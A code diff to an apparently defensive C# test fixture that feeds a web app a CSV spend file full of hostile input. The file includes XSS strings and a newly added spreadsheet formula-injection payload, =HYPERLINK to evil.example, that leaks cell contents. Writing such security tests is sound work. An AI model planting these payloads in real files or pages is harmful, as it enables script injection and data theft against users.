@@ -19,6 +19,7 @@ public sealed class HostileDataAppFixture : WebAppFixture
         "'><script data-xss=3>alert(3)</script>",
         "</script><iframe data-xss=4 src=javascript:alert(4)>",
         "<b data-xss=5 onmouseover=alert(5)>hover</b>",
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
     ];
 
     public static readonly string HostileAgency = "Agency " + Payloads[0];
@@ -43,14 +44,15 @@ public sealed class HostileDataAppFixture : WebAppFixture
         HostileBatch = (await SampleFiles.CommitAsync(store, PlaceCode, HostileAgency, HostileFileName, HostileFile(), HostileUser)).Batch;
     }
 
-    /// <summary>A spend file in the Devon layout whose text cells are payloads, one line per payload.</summary>
+    /// <summary>A spend file in the Devon layout whose text cells are payloads, one line per payload; the formula
+    /// payload is the whole supplier name, as a spreadsheet would see it.</summary>
     private static byte[] HostileFile()
     {
         var csv = new StringBuilder("Body,Name of Body,Date,Transaction number,Amount,Supplier name,Supplier ID,VAT reg no,Expense area,Expense type,Expense code,Creditor type\r\n");
         for (var i = 0; i < Payloads.Count; i++)
         {
             var payload = Quote(Payloads[i]);
-            csv.Append($"18,{Quote(HostileAgency)},{10 + i}/05/2025,{Quote("REF" + Payloads[i])},{1000 + i}.25,{Quote("Supplier " + Payloads[i])},{i},,{Quote("Area " + Payloads[i])},{Quote("Type " + Payloads[i])},X{i},{payload}\r\n");
+            csv.Append($"18,{Quote(HostileAgency)},{10 + i}/05/2025,{Quote("REF" + Payloads[i])},{1000 + i}.25,{Quote(Payloads[i].StartsWith('=') ? Payloads[i] : "Supplier " + Payloads[i])},{i},,{Quote("Area " + Payloads[i])},{Quote("Type " + Payloads[i])},X{i},{payload}\r\n");
         }
 
         return Encoding.UTF8.GetBytes(csv.ToString());
